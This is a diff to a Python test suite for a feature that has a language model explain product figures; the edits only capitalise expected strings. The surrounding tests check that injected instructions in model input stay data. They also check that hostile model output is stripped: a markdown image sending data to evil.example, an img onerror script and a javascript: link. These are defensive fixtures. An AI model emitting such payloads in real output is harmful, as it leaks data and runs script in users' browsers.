@@ -59,7 +59,7 @@ def test_instructions_in_the_data_stay_data_and_nobody_is_named(product: ServedP
     provider.says(f"order came to 4, of which {INJECTED} has 3.")
     found = explained(product, group_by=["page"])
     assert (found["written_by"], found["model"], found["reason"]) == ("model", "small", None)
-    assert found["facts"][0] == {"kind": "total", "says": "order came to 4."}
+    assert found["facts"][0] == {"kind": "total", "says": "Order came to 4."}
     _, _, asked = provider.asked[-1]
     told = json.dumps(asked)
     assert "tools" not in asked
@@ -87,7 +87,7 @@ def test_figures_that_are_none_are_not_shown_and_what_is_shown_does_nothing(prod
     provider.says("Orders rose to 5,000.")
     found = explained(product, interval="hour")
     assert (found["written_by"], found["reason"]) == ("rules", "The model wrote 5000, which is none of the figures.")
-    assert found["text"].startswith("order came to 4.")
+    assert found["text"].startswith("Order came to 4.")
     provider.says("order came to 4. ![](//evil.example/?d=4) <img src=//evil.example/4 onerror=alert(4)> [more](javascript:alert(4))")
     assert explained(product, interval="hour")["text"] == "order came to 4. more"
 
@@ -98,7 +98,7 @@ def test_a_model_that_fails_leaves_words_by_rules_and_a_project_has_its_allowanc
     provider.status, provider.body = 500, b""
     found = explained(product, "th", interval="hour")
     assert (found["written_by"], found["reason"]) == ("rules", "The model's address answered with status 500.")
-    assert found["text"].startswith("order รวม 4")
+    assert found["text"].startswith("Order รวม 4")
     provider.status = 200
     provider.says("order came to 4.", usage={"prompt_tokens": DAILY_TOKENS, "completion_tokens": 0})
     assert explained(product, compare="previous_period")["written_by"] == "model"
